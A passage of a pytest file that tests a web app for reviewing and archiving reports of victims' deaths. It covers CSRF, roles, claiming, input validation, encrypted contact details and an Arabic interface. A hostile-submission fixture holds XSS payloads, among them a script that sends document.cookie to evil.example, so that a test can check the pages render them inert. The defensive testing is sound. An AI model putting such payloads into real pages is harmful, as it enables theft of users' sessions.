"""The review web app (review/app.py) through its real HTTP interface: logins, CSRF, roles,
claims, decisions, hostile text, contact details, archive pages, Arabic interface."""

from __future__ import annotations

import html
import json
import re
import time
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import func, select

from tawthiq import pipeline
from tawthiq.db import repo
from tawthiq.db.engine import session_scope
from tawthiq.db.models import (
    AuditLog,
    Candidate,
    Decision,
    IncidentReport,
    RawItem,
    ReviewTask,
    User,
    Victim,
    VictimName,
    VictimSource,
)
from tawthiq.demo import copy_samples
from tawthiq.review.app import create_app

PASSWORD = "a long password"
RLO = "\u202e"
HOSTILE = {
    "victim_name": f"<script>alert('x')</script>Khaled {RLO}Omar{RLO} Hamdan",
    "sex": "male",
    "age": "30",
    "date_of_death": "2024-03-05",
    "death_governorate": "Hama",
    "death_locality": "<img src=x onerror=alert(1)>Kafr Zita",
    "cause": "shelling",
    "perpetrator": "syrian_regime",
    "narrative": "<script>document.location='http://evil.example/'+document.cookie</script> killed by shelling",
    "submitter_name": "Umm Khaled",
    "submitter_phone": "+963 944 000 111",
}


def load_queue(engine, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    inbox = tmp_path / "inbox"
    copy_samples(inbox)
    (inbox / "forms" / "hostile.json").write_text(json.dumps(HOSTILE, ensure_ascii=False), encoding="utf-8")
    with session_scope(engine) as session:
        repo.add_source(session, "folder", "demo", {"path": str(inbox)})
    for step in (pipeline.pull, pipeline.extract_pending, pipeline.match_pending, pipeline.queue_pending):
        step(engine)
    with session_scope(engine) as session:
        for name, role in (("amal", "documenter"), ("bassel", "documenter"), ("chadi", "editor"), ("dima", "admin")):
            repo.add_user(session, name, PASSWORD, role)


@pytest.fixture
def app(engine, database_url, database_snapshots):  # type: ignore[no-untyped-def]
    database_snapshots.restore(database_url, load_queue)  # load_queue's database, built once per session
    return create_app(database_url)


def csrf_of(html: str) -> str:
    match = re.search(r'name="csrf_token" value="([^"]+)"', html)
    assert match, "page has no CSRF token"
    return match.group(1)


def login(app, name: str) -> TestClient:  # type: ignore[no-untyped-def]
    client = TestClient(app)
    page = client.get("/login")
    response = client.post("/login", data={"username": name, "password": PASSWORD, "next": "/",
                                           "csrf_token": csrf_of(page.text)}, follow_redirects=False)
    assert response.status_code == 303, response.text
    cookie = response.headers["set-cookie"]
    assert "HttpOnly" in cookie and "SameSite=lax" in cookie
    return client


def start(client: TestClient) -> int:
    """Press "start reviewing" on the queue page and return the claimed item's id."""
    queue = client.get("/")
    response = client.post("/next", data={"csrf_token": csrf_of(queue.text)}, follow_redirects=False)
    assert response.status_code == 303
    return int(re.search(r"/item/(\d+)", response.headers["location"]).group(1))


def decide(client: TestClient, task_id: int, **data: str):  # type: ignore[no-untyped-def]
    page = client.get(f"/item/{task_id}")
    return client.post(f"/item/{task_id}/decide", data={"csrf_token": csrf_of(page.text), **data}, follow_redirects=False)


def test_pages_need_a_login_and_wrong_passwords_are_refused(app, engine) -> None:
    client = TestClient(app)
    response = client.get("/archive", follow_redirects=False)
    assert response.status_code == 303 and response.headers["location"].startswith("/login?next=%2Farchive")
    page = client.get("/login")
    response = client.post("/login", data={"username": "amal", "password": "wrong", "csrf_token": csrf_of(page.text)})
    assert response.status_code == 401 and "wrong user name or password" in response.text
    with session_scope(engine) as session:
        assert session.scalar(select(func.count()).select_from(AuditLog).where(AuditLog.action == "login.failed")) == 1


def test_forged_posts_and_expired_sessions_are_refused(app, monkeypatch) -> None:
    client = login(app, "amal")
    forged = client.post("/next", data={}, follow_redirects=False)
    assert forged.status_code == 403 and "CSRF token" in forged.text
    wrong = client.post("/next", data={"csrf_token": "guessed"}, follow_redirects=False)
    assert wrong.status_code == 403
    # A login form posted from another site carries no token either.
    assert TestClient(app).post("/login", data={"username": "amal", "password": PASSWORD}).status_code == 403

    thirteen_hours_ago = time.time() - 13 * 3600
    monkeypatch.setattr(time, "time", lambda: thirteen_hours_ago)
    old_cookie = app.state.serializer.dumps({"uid": 1, "csrf": "x"})
    monkeypatch.undo()
    stale = TestClient(app, cookies={"tawthiq_session": old_cookie})
    response = stale.get("/", follow_redirects=False)
    assert response.status_code == 303 and "session+expired" in response.headers["location"]
    assert stale.post("/next", data={"csrf_token": "x"}).status_code in (401, 403)


def test_claim_decide_and_the_next_item_loads(app, engine) -> None:
    amal, bassel = login(app, "amal"), login(app, "bassel")
    first = start(amal)
    second = start(bassel)
    assert first != second

    page = bassel.get(f"/item/{first}")
    assert "being reviewed" not in page.text and "amal" in page.text
    assert f'action="/item/{first}/decide"' not in page.text  # no actions on someone else's item
    refused = bassel.post(f"/item/{first}/decide", data={"csrf_token": csrf_of(page.text), "action": "new_victim"})
    assert refused.status_code == 409 and "being reviewed by amal" in refused.text

    response = decide(amal, first, action="new_victim")
    assert response.status_code == 303
    following = int(re.search(r"/item/(\d+)", response.headers["location"]).group(1))
    assert following not in (first, second)
    with session_scope(engine) as session:
        task = session.get(ReviewTask, first)
        assert task.state == "done"
        victim = session.scalar(select(Victim).join(VictimSource).where(VictimSource.candidate_id == task.candidate_id))
        assert victim is not None and victim.status == "active"
        victim_id = victim.id
        assert session.get(ReviewTask, following).claimed_by.username == "amal"
    victim_page = amal.get(f"/victim/{victim_id}")
    assert "single source" in victim_page.text and "created" in victim_page.text


def test_reject_needs_a_reason_and_defer_keeps_the_item(app, engine) -> None:
    amal = login(app, "amal")
    task_id = start(amal)
    missing = decide(amal, task_id, action="not_victim")
    assert missing.status_code == 409 and "choose why" in missing.text
    assert decide(amal, task_id, action="not_victim", reason="injured").status_code == 303
    other = start(amal)
    assert decide(amal, other, action="defer").status_code == 303
    with session_scope(engine) as session:
        assert session.get(ReviewTask, task_id).state == "done"
        assert session.get(ReviewTask, other).state == "deferred"
        assert session.scalar(select(func.count()).select_from(Victim)) == 0


def test_same_as_keeps_both_names_and_only_editors_undo_or_merge(app, engine) -> None:
    amal, chadi = login(app, "amal"), login(app, "chadi")
    created = []
    for _ in range(2):
        task_id = start(amal)
        decide(amal, task_id, action="new_victim")
        created.append(task_id)
    with session_scope(engine) as session:
        victims = session.scalars(select(Victim.id).order_by(Victim.id)).all()
        decisions = [session.scalar(select(Decision.id).where(Decision.review_task_id == t)) for t in created]
    # a third report, decided as the same person as the first: its name is kept as a variant
    third = start(amal)
    assert decide(amal, third, action="same_as", victim_id=str(victims[0])).status_code == 303
    with session_scope(engine) as session:
        names = session.scalars(select(VictimName.name).where(VictimName.victim_id == victims[0])).all()
        third_name = session.get(ReviewTask, third).candidate.full_name
        assert third_name in names and len(names) >= 2
    page = amal.get(f"/victim/{victims[0]}")
    merge = amal.post(f"/victim/{victims[0]}/merge", data={"csrf_token": csrf_of(page.text), "merge_id": str(victims[1])})
    assert merge.status_code == 403 and "needs the editor role" in merge.text
    bassel = login(app, "bassel")  # a documenter undoes only their own decisions
    undo = bassel.post(f"/decision/{decisions[1]}/undo", data={"csrf_token": csrf_of(bassel.get("/").text)})
    assert undo.status_code == 409 and "needs the editor role" in undo.text

    page = chadi.get(f"/victim/{victims[0]}")
    assert chadi.post(f"/victim/{victims[0]}/merge", data={"csrf_token": csrf_of(page.text), "merge_id": f"#{victims[1]}"},
                      follow_redirects=False).status_code == 303
    merged = chadi.get(f"/victim/{victims[1]}")
    assert "merged" in merged.text
    assert chadi.post(f"/decision/{decisions[0]}/undo", data={"csrf_token": csrf_of(page.text), "note": "wrong"},
                      follow_redirects=False).status_code == 303
    with session_scope(engine) as session:
        assert session.get(ReviewTask, created[0]).state == "open"
        assert session.get(Victim, victims[0]).status in ("active", "retracted")


def test_hostile_text_renders_inert(app, engine) -> None:
    with session_scope(engine) as session:
        candidate = session.scalar(select(Candidate).join(RawItem).where(RawItem.external_id == "forms/hostile.json"))
        assert candidate is not None, "the hostile submission should still be extracted"
        task_id = candidate.review_task.id
        raw_id = candidate.raw_item_id
    amal = login(app, "amal")
    for page in (amal.get(f"/item/{task_id}"), amal.get("/"), amal.get(f"/raw/{raw_id}")):
        assert page.status_code == 200
        assert "<script>alert" not in page.text and "<script>document" not in page.text
        assert "<img src=x" not in page.text
        assert RLO not in page.text
        assert "default-src 'self'" in page.headers["content-security-policy"]
    assert "&lt;script&gt;" in amal.get(f"/raw/{raw_id}").text


def test_contact_details_only_for_admins_and_every_view_logged(app, engine) -> None:
    with session_scope(engine) as session:
        raw_id = session.scalar(select(RawItem.id).where(RawItem.external_id == "forms/hostile.json"))
        stored = session.get(RawItem, raw_id).content
    assert b"944 000 111" not in stored and b"Umm Khaled" not in stored  # encrypted at rest, payload too
    amal, dima = login(app, "amal"), login(app, "dima")
    raw = amal.get(f"/raw/{raw_id}")
    assert "944 000 111" not in raw.text and "/contact" not in raw.text
    assert amal.get(f"/raw/{raw_id}/contact").status_code == 403
    details = dima.get(f"/raw/{raw_id}/contact")
    assert details.status_code == 200 and "944 000 111" in details.text and "Umm Khaled" in details.text
    with session_scope(engine) as session:
        views = session.scalars(select(AuditLog).where(AuditLog.action == "contact.view")).all()
        assert len(views) == 1 and views[0].entity_id == str(raw_id)


def test_archive_search_by_arabic_or_latin_name(app) -> None:
    amal = login(app, "amal")
    while True:
        queue = amal.get("/")
        response = amal.post("/next", data={"csrf_token": csrf_of(queue.text)}, follow_redirects=False)
        if "/item/" not in response.headers["location"]:
            break
        task_id = int(re.search(r"/item/(\d+)", response.headers["location"]).group(1))
        decide(amal, task_id, action="new_victim")
    latin = amal.get("/archive", params={"q": "Mustafa Ajaj"})
    arabic = amal.get("/archive", params={"q": "مصطفى عجاج"})
    ids = lambda html: set(re.findall(r'href="/victim/(\d+)"', html))  # noqa: E731
    assert ids(latin.text) and ids(latin.text) == ids(arabic.text)
    assert ids(amal.get("/archive", params={"q": "nobody of that name"}).text) == set()


def test_arabic_interface_is_right_to_left(app) -> None:
    amal = login(app, "amal")
    amal.get("/lang/ar")
    page = amal.get("/")
    assert '<html lang="ar" dir="rtl">' in page.text and "قائمة الانتظار" in page.text
    assert '<bdi dir="rtl" lang="ar">' in page.text


def test_only_admins_manage_users(app, engine) -> None:
    amal, dima = login(app, "amal"), login(app, "dima")
    assert amal.get("/users").status_code == 403
    page = dima.get("/users")
    assert page.status_code == 200
    response = dima.post("/users", data={"csrf_token": csrf_of(page.text), "username": "faten",
                                         "password": "another long password", "role": "editor"}, follow_redirects=False)
    assert response.status_code == 303
    weak = dima.post("/users", data={"csrf_token": csrf_of(page.text), "username": "x", "password": "123", "role": "editor"})
    assert weak.status_code == 409
    with session_scope(engine) as session:
        assert session.scalar(select(AuditLog).where(AuditLog.action == "user.add"))


# --- values the app cannot use: 400 with a message, never a 500 -------------------------------

HUGE = str(10**30)  # overflows a timedelta in days and every SQL integer
JSON = {"accept": "application/json"}


def assert_bad(response, message: str) -> None:  # type: ignore[no-untyped-def]
    assert response.status_code == 400, (response.status_code, response.text[-500:])
    assert 'class="error"' in response.text and message in response.text, response.text[-500:]


def test_malformed_addresses_are_400_with_a_message(app, engine) -> None:
    amal = login(app, "amal")
    task_id = start(amal)
    cases = [
        ("/?older_than=abc", "In queue over (days): “abc” is not a whole number."),
        ("/?older_than=-3", "In queue over (days): -3 is too small; the smallest allowed is 0."),
        (f"/?older_than={HUGE}", f"In queue over (days): {HUGE} is too large; the largest allowed is 36500."),
        ("/?older_than=99999999", "the largest allowed is 36500"),  # a datetime overflow before
        ("/?older_than=1.5", "“1.5” is not a whole number"),
        ("/?older_than=²", "“²” is not a whole number"),  # str.isdigit says yes, int() says no
        ("/?page=abc", "Page: “abc” is not a whole number."),
        ("/?page=0", "Page: 0 is too small; the smallest allowed is 1."),
        (f"/?page={HUGE}", "the largest allowed is 10000"),
        ("/?date_from=garbage", "Died from: “garbage” is not a date; write it as YYYY-MM-DD, YYYY-MM or YYYY."),
        ("/?date_to=31/31/31", "Died to: “31/31/31” is not a date"),
        ("/?has_match=maybe", "Possible match: “maybe” is not one of the choices (yes, no)."),
        ("/?governorate=Atlantis", "Governorate: “Atlantis” is not one of the choices (Aleppo, Damascus,"),
        ("/item/abc", "Queue item number: “abc” is not a whole number."),
        ("/item/-1", "Queue item number: -1 is too small; the smallest allowed is 1."),
        (f"/item/{HUGE}", f"Queue item number: {HUGE} is too large; the largest allowed is 2147483647."),
        ("/item/" + "9" * 5000, "Queue item number: “9999999999"),  # past int()'s digit limit
        (f"/item/{task_id}?older_than={HUGE}", "In queue over (days)"),  # the filters the item carries on to the next
        ("/victim/abc", "Archived victim number: “abc” is not a whole number."),
        (f"/victim/{HUGE}", "Archived victim number:"),
        (f"/raw/{HUGE}", "Raw item number:"),
        ("/archive?q=x&date_from=xx", "Died from: “xx” is not a date"),
        ("/archive?governorate=Atlantis", "Governorate: “Atlantis”"),
        ("/incidents?page=-1", "Page: -1 is too small"),
        ("/incidents/abc", "Incident report number: “abc” is not a whole number."),
        (f"/incidents/{HUGE}", "Incident report number:"),
        (f"/incident/{HUGE}", "Incident number:"),
        ("/lang/xx", "Language: “xx” is not one of the choices (en, ar)."),
    ]
    for path, message in cases:
        assert_bad(amal.get(path), message)
    # What the forms send still works: digits in Arabic-Indic script, blanks, dates in any format the matcher reads.
    for path in ("/?older_than=٣", "/?older_than=&page=1&date_from=&has_match=", "/?date_from=05/03/2024&has_match=yes",
                 "/archive?q=x&date_from=2024-03", "/incidents?page=2"):
        assert amal.get(path).status_code == 200, path
    # Nobody learns anything about an address before logging in.
    assert TestClient(app).get("/item/abc", follow_redirects=False).status_code == 303


def test_malformed_form_values_are_400_and_change_nothing(app, engine) -> None:
    amal, chadi, dima = login(app, "amal"), login(app, "chadi"), login(app, "dima")
    task_id = start(amal)
    for victim_id, message in (("abc", "Archived victim number: “abc” is not a whole number."),
                               (HUGE, f"Archived victim number: {HUGE} is too large"),
                               ("-4", "Archived victim number: -4 is too small; the smallest allowed is 1."),
                               ("0", "Archived victim number: 0 is too small")):
        assert_bad(decide(amal, task_id, action="same_as", victim_id=victim_id), message)
    assert_bad(decide(amal, task_id, action="bogus"), "Action: “bogus” is not one of the choices (new_victim, same_as")
    # A bad filter carried to the next item refuses the decision before it is written.
    assert_bad(decide(amal, task_id, action="new_victim", query=f"older_than={HUGE}"), "In queue over (days)")
    with session_scope(engine) as session:
        assert session.scalar(select(func.count()).select_from(Decision)) == 0
        task = session.get(ReviewTask, task_id)
        assert task.state == "open" and task.claimed_by.username == "amal"
    queue = amal.get("/")
    assert_bad(amal.post("/next", data={"csrf_token": csrf_of(queue.text), "older_than": HUGE}), "In queue over (days)")
    assert_bad(amal.post("/next", data={"csrf_token": csrf_of(queue.text), "date_from": "soon"}), "Died from: “soon” is not a date")

    assert decide(amal, task_id, action="new_victim").status_code == 303
    with session_scope(engine) as session:
        victim_id = session.scalar(select(Victim.id))
    page = chadi.get(f"/victim/{victim_id}")
    token = csrf_of(page.text)
    for merge_id, message in (("abc", "Number of the victim to merge: “abc” is not a whole number."),
                              (f"#{HUGE}", "Number of the victim to merge: "), ("#-2", "-2 is too small"),
                              ("", "Number of the victim to merge: this is needed.")):
        assert_bad(chadi.post(f"/victim/{victim_id}/merge", data={"csrf_token": token, "merge_id": merge_id}), message)
    assert_bad(chadi.post(f"/decision/{HUGE}/undo", data={"csrf_token": token}), "Decision number:")
    assert_bad(chadi.post(f"/victim/{HUGE}/merge", data={"csrf_token": token, "merge_id": "1"}), "Archived victim number:")

    users = dima.get("/users")
    assert_bad(dima.post("/users", data={"csrf_token": csrf_of(users.text), "username": "faten", "password": "another long password",
                                         "role": "superuser"}), "Role: “superuser” is not one of the choices (documenter, editor, admin).")
    assert_bad(dima.post("/users", data={"csrf_token": csrf_of(users.text), "password": "another long password"}),
               "User name: this is needed.")
    with session_scope(engine) as session:
        assert session.scalar(select(func.count()).select_from(Decision)) == 1
        assert session.get(Victim, victim_id).status == "active"
        assert session.scalar(select(func.count()).select_from(User).where(User.username == "faten")) == 0


def test_bad_parameters_in_arabic_and_for_json_clients(app) -> None:
    amal = login(app, "amal")
    amal.cookies.set("tawthiq_lang", "ar")
    page = amal.get("/?older_than=abc")
    assert_bad(page, "في القائمة منذ أكثر من (أيام): «abc» ليس عدداً صحيحاً.")
    assert '<html lang="ar" dir="rtl">' in page.text
    assert_bad(amal.get(f"/item/{HUGE}"), f"رقم عنصر القائمة: {HUGE} أكبر من المسموح؛ أكبر قيمة مسموحة هي 2147483647.")
    assert_bad(amal.get("/?date_from=garbage"), "تاريخ الوفاة من: «garbage» ليس تاريخاً")

    amal.cookies.set("tawthiq_lang", "en")
    api = amal.get(f"/?older_than={HUGE}", headers=JSON)
    assert api.status_code == 400 and api.headers["content-type"].startswith("application/json")
    assert api.json() == {"detail": f"In queue over (days): {HUGE} is too large; the largest allowed is 36500.",
                          "errors": [{"parameter": "older_than", "problem": "too_large", "value": HUGE}]}
    api = amal.get("/item/abc?page=x", headers=JSON)
    assert api.status_code == 400
    assert api.json()["errors"] == [{"parameter": "task_id", "problem": "whole_number", "value": "abc"}]
    several = amal.get("/?page=0", headers=JSON).json()
    assert several["errors"] == [{"parameter": "page", "problem": "too_small", "value": "0"}]
    # Other refusals answer a JSON client in JSON too; a browser's Accept header gets the page.
    missing = amal.get("/item/999999", headers=JSON)
    assert missing.status_code == 404 and missing.json() == {"detail": "no queue item 999999"}
    browser = amal.get("/item/abc", headers={"accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"})
    assert browser.status_code == 400 and browser.headers["content-type"].startswith("text/html")


def test_incident_forms_answer_numbers_they_cannot_read_with_their_message(app, engine) -> None:
    """The incident forms' values are checked in db/incidents.py and refused with 409 and its
    message; numbers it could not read at all (a superscript, thirty digits) were a 500."""
    from tawthiq.db.models import IncidentTask

    client = login(app, "amal")
    with session_scope(engine) as session:
        task_id = session.scalar(select(IncidentTask.id).order_by(IncidentTask.id))
    token = csrf_of(client.get(f"/incidents/{task_id}").text)
    post = lambda path, **data: client.post(f"/incidents/{task_id}/{path}", data={"csrf_token": token, **data})  # noqa: E731
    for value in ("²", HUGE):
        bad = post("decide", action="new_incident", killed_min=value)
        assert bad.status_code == 400 and "is not a count" in bad.text, bad.text[-300:]
        bad = post("add-victim", name="سامر خالد الحسين", age=value)
        assert bad.status_code == 400 and "is not an age in years" in bad.text, bad.text[-300:]
    bad = post("decide", action="same_incident", incident_id=HUGE)
    assert bad.status_code == 409 and "does not exist" in bad.text
    bad = post("decide", action=f"same_incident:{HUGE}")
    assert bad.status_code == 409 and "does not exist" in bad.text
    bad = post("decide", action="same_incident", incident_id="²")
    assert bad.status_code == 400 and "not an incident number" in bad.text
    assert_bad(client.post(f"/incidents/{HUGE}/decide", data={"csrf_token": token, "action": "defer"}), "Incident report number:")


# --- the item page: opening is not claiming, corrections, re-scoring, own undo, edits ----------------


def open_item(session) -> int:  # type: ignore[no-untyped-def]
    return session.scalars(select(ReviewTask.id).where(ReviewTask.state == "open").order_by(ReviewTask.id)).first()


def test_opening_an_item_does_not_claim_it_and_the_first_action_does(app, engine) -> None:
    amal, bassel = login(app, "amal"), login(app, "bassel")
    with session_scope(engine) as session:
        task_id = open_item(session)
    page = bassel.get(f"/item/{task_id}")  # to compare, say
    assert 'id="free"' in page.text and f'action="/item/{task_id}/take"' in page.text
    with session_scope(engine) as session:
        assert session.get(ReviewTask, task_id).claimed_by_id is None
    taken = bassel.post(f"/item/{task_id}/take", data={"csrf_token": csrf_of(page.text)}, follow_redirects=False)
    assert taken.status_code == 303
    mine = bassel.get(f"/item/{task_id}")
    assert 'id="mine"' in mine.text
    theirs = amal.get(f"/item/{task_id}")
    assert 'id="held"' in theirs.text and "bassel" in theirs.text and f'action="/item/{task_id}/decide"' not in theirs.text
    refused = amal.post(f"/item/{task_id}/take", data={"csrf_token": csrf_of(theirs.text)})
    assert refused.status_code == 409 and "being reviewed by bassel" in refused.text


def test_a_documenter_corrects_the_report_then_decides(app, engine) -> None:
    amal = login(app, "amal")
    with session_scope(engine) as session:
        task_id = open_item(session)
    page = amal.get(f"/item/{task_id}")
    assert f'action="/item/{task_id}/correct"' in page.text
    token = csrf_of(page.text)
    bad = amal.post(f"/item/{task_id}/correct", data={"csrf_token": token, "age": "two hundred", "note": "x"})
    assert bad.status_code == 400 and "age: 'two hundred' is not an age in years" in html.unescape(bad.text)
    for value in ("²", HUGE, "9" * 5000):  # isdigit says yes, int() says no or refuses the length
        bad = amal.post(f"/item/{task_id}/correct", data={"csrf_token": token, "age": value, "note": "x"})
        assert bad.status_code == 400 and "is not an age in years" in bad.text
    no_reason = amal.post(f"/item/{task_id}/correct", data={"csrf_token": token, "age": "19"})
    assert no_reason.status_code == 409 and "say why" in no_reason.text
    saved = amal.post(f"/item/{task_id}/correct", data={"csrf_token": token, "age": "19", "date_of_death": "2024-03-01",
                                                        "note": "the family's form gives 19"}, follow_redirects=False)
    assert saved.status_code == 303 and "corrected=1" in saved.headers["location"]
    shown = amal.get(saved.headers["location"])
    assert 'id="corrections"' in shown.text and "the family's form gives 19" in html.unescape(shown.text) and 'id="mine"' in shown.text
    assert decide(amal, task_id, action="new_victim").status_code == 303
    with session_scope(engine) as session:
        victim = session.scalar(select(Victim).join(VictimSource).where(
            VictimSource.candidate_id == session.get(ReviewTask, task_id).candidate_id))
        assert (victim.age, victim.is_child, victim.date_of_death) == (19, False, "2024-03-01")


def test_a_victim_archived_meanwhile_stops_a_new_victim_decision(app, engine) -> None:
    """Two documenters, two reports of one man: the second is shown the victim the first just
    archived, and a "new victim" on it is not taken until they have compared."""
    from sqlalchemy import delete

    from tawthiq.db.models import MatchLink

    with session_scope(engine) as session:
        rows = session.scalars(select(ReviewTask).join(Candidate, Candidate.id == ReviewTask.candidate_id)
                               .where(Candidate.full_name.like("Mustafa M%Ajaj")).order_by(ReviewTask.id)).all()
        first, second = rows[0].id, rows[1].id
        session.execute(delete(MatchLink).where(MatchLink.candidate_id == rows[1].candidate_id))
    amal, bassel = login(app, "amal"), login(app, "bassel")
    page = bassel.get(f"/item/{second}")  # opened before amal decides
    assert "archived since" not in page.text
    assert decide(amal, first, action="new_victim").status_code == 303
    with session_scope(engine) as session:
        victim_id = session.scalar(select(Decision.victim_id).where(Decision.review_task_id == first))
    again = bassel.get(f"/item/{second}")
    assert "archived since" in again.text and f"/victim/{victim_id}" in again.text
    stopped = bassel.post(f"/item/{second}/decide", data={"csrf_token": csrf_of(page.text), "action": "new_victim"},
                          follow_redirects=False)
    assert stopped.status_code == 303 and "rescored=1" in stopped.headers["location"]
    warned = bassel.get(stopped.headers["location"])
    assert 'id="rescored"' in warned.text and f'name="victim_id" value="{victim_id}"' in warned.text
    with session_scope(engine) as session:
        assert session.get(ReviewTask, second).state == "open"
        assert session.scalar(select(func.count()).select_from(Victim)) == 1
    assert decide(bassel, second, action="same_as", victim_id=str(victim_id)).status_code == 303
    with session_scope(engine) as session:
        assert session.scalar(select(func.count()).select_from(Victim)) == 1
        assert session.scalar(select(func.count()).select_from(VictimSource).where(VictimSource.victim_id == victim_id)) == 2


def test_the_item_page_finds_any_archived_victim_to_compare(app, engine) -> None:
    amal = login(app, "amal")
    assert decide(amal, start(amal), action="new_victim").status_code == 303
    with session_scope(engine) as session:
        victim = session.scalars(select(Victim)).one()
        victim_id, family = victim.id, victim.full_name.split()[-1]
        task_id = open_item(session)
    found = amal.get(f"/item/{task_id}", params={"find": family})
    assert 'id="found"' in found.text and f"compare={victim_id}" in found.text
    compared = amal.get(f"/item/{task_id}", params={"compare": f"#{victim_id}"})
    assert f'name="victim_id" value="{victim_id}"' in compared.text and "chosen" in compared.text
    assert amal.get(f"/item/{task_id}", params={"compare": "abc"}).status_code == 400
    assert amal.get(f"/item/{task_id}", params={"compare": "999999"}).status_code == 404


def test_a_documenter_undoes_their_last_decision_from_the_next_page(app, engine) -> None:
    amal = login(app, "amal")
    first = start(amal)
    response = decide(amal, first, action="new_victim")
    following = amal.get(response.headers["location"])
    assert 'id="last-decision"' in following.text and 'id="undo-last"' in following.text
    undo_action = re.search(r'action="(/decision/\d+/undo)" class="inline" id="undo-last"', following.text).group(1)
    undone = amal.post(undo_action, data={"csrf_token": csrf_of(following.text)}, follow_redirects=False)
    assert undone.status_code == 303 and undone.headers["location"] == f"/item/{first}"
    with session_scope(engine) as session:
        task = session.get(ReviewTask, first)
        assert task.state == "open" and task.claimed_by.username == "amal"  # back to the one who undid it
        assert session.scalars(select(Victim.status)).all() == ["retracted"]


def test_an_editor_edits_an_archived_victim_with_a_reason(app, engine) -> None:
    amal, chadi = login(app, "amal"), login(app, "chadi")
    assert decide(amal, start(amal), action="new_victim").status_code == 303
    with session_scope(engine) as session:
        victim_id = session.scalars(select(Victim.id)).one()
    page = chadi.get(f"/victim/{victim_id}")
    assert 'id="edit"' in page.text
    assert 'id="edit"' not in amal.get(f"/victim/{victim_id}").text
    refused = amal.post(f"/victim/{victim_id}/edit", data={"csrf_token": csrf_of(page.text), "age": "44", "note": "x"})
    assert refused.status_code == 403
    bad = chadi.post(f"/victim/{victim_id}/edit", data={"csrf_token": csrf_of(page.text), "death_governorate": "Atlantis",
                                                        "note": "x"})
    assert bad.status_code == 400 and "'Atlantis' is not a governorate" in html.unescape(bad.text)
    saved = chadi.post(f"/victim/{victim_id}/edit", data={"csrf_token": csrf_of(page.text), "age": "44",
                                                          "note": "death certificate"}, follow_redirects=False)
    assert saved.status_code == 303
    shown = chadi.get(saved.headers["location"])
    assert "edited" in shown.text and "death certificate" in shown.text and "44" in shown.text


def test_a_database_too_busy_is_503_and_says_nothing_was_saved(app, engine, monkeypatch) -> None:
    import sqlite3

    from sqlalchemy.exc import OperationalError

    from tawthiq.db import archive as archive_module

    amal = login(app, "amal")
    page = amal.get("/")

    def locked(*args, **kwargs):  # type: ignore[no-untyped-def]
        raise OperationalError("UPDATE review_tasks ...", {}, sqlite3.OperationalError("database is locked"))

    monkeypatch.setattr(archive_module, "claim_next", locked)
    busy = amal.post("/next", data={"csrf_token": csrf_of(page.text)})
    assert busy.status_code == 503 and busy.headers["retry-after"] == "5" and "nothing was saved" in busy.text


def test_refusals_are_in_the_pages_language(app, engine) -> None:
    amal, bassel = login(app, "amal"), login(app, "bassel")
    task_id = start(amal)
    bassel.cookies.set("tawthiq_lang", "ar")
    page = bassel.get(f"/item/{task_id}")
    refused = bassel.post(f"/item/{task_id}/decide", data={"csrf_token": csrf_of(page.text), "action": "new_victim"})
    assert refused.status_code == 409 and f"البند {task_id} يراجعه amal الآن" in refused.text
    with session_scope(engine) as session:
        other = session.scalars(select(ReviewTask.id).where(ReviewTask.state == "open", ReviewTask.claimed_by_id.is_(None))
                                .order_by(ReviewTask.id)).first()
    bad = bassel.post(f"/item/{other}/correct", data={"csrf_token": csrf_of(page.text), "age": "مئتان", "note": "x"})
    assert bad.status_code == 400 and "«مئتان» في حقل «العمر» ليس عمراً بالسنوات" in bad.text and "is not an age" not in bad.text
    chadi = login(app, "chadi")
    chadi.cookies.set("tawthiq_lang", "ar")
    assert decide(amal, task_id, action="new_victim").status_code == 303
    with session_scope(engine) as session:
        victim_id = session.scalars(select(Victim.id)).one()
    victim_page = chadi.get(f"/victim/{victim_id}")
    itself = chadi.post(f"/victim/{victim_id}/merge", data={"csrf_token": csrf_of(victim_page.text), "merge_id": str(victim_id)})
    assert itself.status_code == 409 and "لا يمكن دمج الضحية في نفسها" in itself.text


@pytest.mark.parametrize(("field", "value"), [
    ("age", "مئتان"), ("age", "²"), ("sex", "رجل"), ("is_child", "ربما"), ("date_of_death", "أمس"), ("date_of_death", "2999"),
    ("name_ar", "Ahmad"), ("full_name", "123"), ("cause", "قصف"), ("death_governorate", "Gaza"), ("locality", "x" * 300),
    ("victim_id", "7"),
])
def test_every_bad_value_is_refused_in_arabic(field: str, value: str) -> None:
    from tawthiq.db.archive import check_field
    from tawthiq.errors import InvalidValue
    from tawthiq.review.app import review_message

    with pytest.raises(InvalidValue) as refused:
        check_field(field, value)
    arabic = review_message(refused.value, "ar")
    shown = arabic.replace(value, "").replace(field.replace("_", " "), "")  # a field with no Arabic name shows its own
    assert refused.value.code and not any("a" <= ch.lower() <= "z" for ch in shown)
    assert review_message(refused.value, "en") == str(refused.value)


def test_a_candidate_described_as_a_fighter_carries_a_warning_in_both_languages(app, engine) -> None:
    amal = login(app, "amal")
    with session_scope(engine) as session:
        task_id = open_item(session)
        candidate = session.get(ReviewTask, task_id).candidate
        plain = amal.get(f"/item/{task_id}")
        assert 'id="described-as"' not in plain.text
        candidate.extra = {**(candidate.extra or {}), "described_as": "combatant", "described_as_words": "العسكري يدعى"}
    page = amal.get(f"/item/{task_id}")
    assert 'id="described-as"' in page.text and "soldier or fighter" in page.text and "العسكري يدعى" in page.text
    amal.get("/lang/ar")
    assert "يصف النص هذا الشخص بأنه عسكري أو مقاتل" in amal.get(f"/item/{task_id}").text


def test_a_decision_on_a_reading_replaced_by_reextract_is_refused_with_a_clear_message(app, engine) -> None:
    amal = login(app, "amal")
    task_id = start(amal)
    page = amal.get(f"/item/{task_id}")
    with session_scope(engine) as session:
        session.get(ReviewTask, task_id).state = "superseded"  # what tawthiq reextract does meanwhile
    response = amal.post(f"/item/{task_id}/decide", data={"csrf_token": csrf_of(page.text), "action": "new_victim"},
                         follow_redirects=False)
    assert response.status_code in (400, 409) and "read again by a newer extractor" in response.text
    with session_scope(engine) as session:
        assert session.scalars(select(func.count(Victim.id))).one() == 0


def reread_with_old_text(engine) -> tuple[int, int, str, str]:  # type: ignore[no-untyped-def]
    """A news item read again by `tawthiq reextract`: its first reading, by an older version of
    the extractor, gave its victim an age of 77 and was read from a text cleaned otherwise.
    Returns the old reading's task, the new reading's task for the same person, the old text
    and the item's text now."""
    with session_scope(engine) as session:
        task = next(t for t in session.scalars(select(ReviewTask).where(ReviewTask.state == "open").order_by(ReviewTask.id))
